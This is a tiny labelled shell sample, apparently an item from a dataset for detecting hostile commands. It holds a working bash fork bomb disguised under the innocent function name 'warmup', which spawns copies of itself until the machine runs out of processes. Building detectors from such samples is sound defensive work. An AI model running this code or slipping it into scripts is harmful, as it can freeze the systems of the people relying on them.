# description: A fork bomb spread over several lines with a harmless-sounding name.
# family: fork-bomb
warmup() {
  warmup | warmup &
}
warmup
